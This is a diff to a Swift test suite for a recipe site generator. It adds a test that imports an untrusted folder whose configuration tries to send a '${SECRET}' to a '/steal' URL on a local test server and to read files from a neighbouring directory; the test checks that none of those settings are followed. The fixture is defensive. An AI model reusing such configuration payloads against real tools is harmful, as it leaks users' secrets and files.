@@ -3,6 +3,7 @@ import Diagnostics
 import Files
 import Foundation
 import JSONText
+import LoopbackServer
 import RecipeSamples
 import Testing
 
@@ -243,9 +244,65 @@ import Testing
             "dishes.json": #"[{"id": 1, "label": "Soup", "parts": ["1 leek"]}]"#,
         ])
         let into = site.outside + "/in"
-        #expect(try await Self.imported([site.path], into: into).written == 1)
+        let report = try await Self.imported([site.path + "/recipegen.yml"], into: into)
+        #expect(report.written == 1)
+        #expect(
+            report.diagnostics.map(\.message) == [
+                "the settings of this site are followed; its feeds are read: dishes.json",
+                "the names of the keys tell what they hold: \"id\" as id",
+            ])
         let text = String(decoding: try Files.read(into + "/leek-soup.md"), as: UTF8.self)
         #expect(text.contains("- 1 leek"))
+    }
+
+    /// The folder may be a stranger's: its settings would send secrets to their host, and read files beside it.
+    @Test(arguments: ["recipegen.yml", "recipegen.yaml"])
+    func followsNoSettingsOfAFolder(configuration: String) async throws {
+        try await LoopbackServer.run({ _ in .text(Self.feed) }) { server in
+            let site = try TestSite([
+                configuration: """
+                feeds:
+                  - {source: "\(server.base)/steal?key=${SECRET}", name: a, headers: {X-All: "${SECRET}"}}
+                  - {source: ../beside, name: b}
+                network: {allowPrivate: ["127.0.0.1"]}
+                overrides: {"recipes:soup": {title: Replaced}}
+
+                """,
+                "recipes/soup.md":
+                    "# Soup\n\n![](\(server.base)/soup.jpg)\n\n## Ingredients\n\n- 1 leek\n\n## Directions\n\nBoil.\n",
+                "public/recipes/soup/index.html": "<h1>Soup of a build</h1>",
+                "pages/about.md": "# About\n", "favorites.json": #"{"version": 1, "collections": []}"#,
+                "../beside/pie.md": "# Pie\n\n## Ingredients\n\n- 1 egg\n",
+            ])
+            if configuration != "recipegen.yml" { try site.remove("recipegen.yml") }
+            let into = site.outside + "/in"
+            let report = try await Import(
+                [site.path], into: into, jobs: 2, variables: ["SECRET": "s3cret"]
+            ).run()
+            #expect(server.requests.isEmpty)
+            #expect(try Tree(into).files.keys.sorted() == ["soup.md"])
+            #expect(try Self.told(report, site.path).first == Self.notFollowed(configuration))
+
+            // Nor do new sites.
+            let new = try await NewSite(
+                site.outside + "/new", from: [site.path], jobs: 2, variables: ["SECRET": "s3cret"]
+            ).run(NewSite.Answers(title: "New"))
+            #expect(server.requests.isEmpty)
+            #expect(try Tree(site.outside + "/new/recipes").files.keys.sorted() == ["soup.md"])
+            #expect(new.diagnostics.map(\.code).contains(.siteSettings))
+        }
+    }
+
+    private static func told(_ report: Import.Report, _ folder: String) throws -> [String] {
+        report.diagnostics.map { $0.description.replacing(folder, with: "SITE") }
+    }
+
+    private static func notFollowed(_ configuration: String) -> String {
+        """
+        SITE/\(configuration): note[site-settings]: this is the folder of a site: its files are read, and none of its \
+        settings is followed
+          fix: to read its feeds with their settings, if you trust who made it, import SITE/\(configuration)
+        """
     }
 
     @Test func namesASourceThatIsNotThere() async throws {
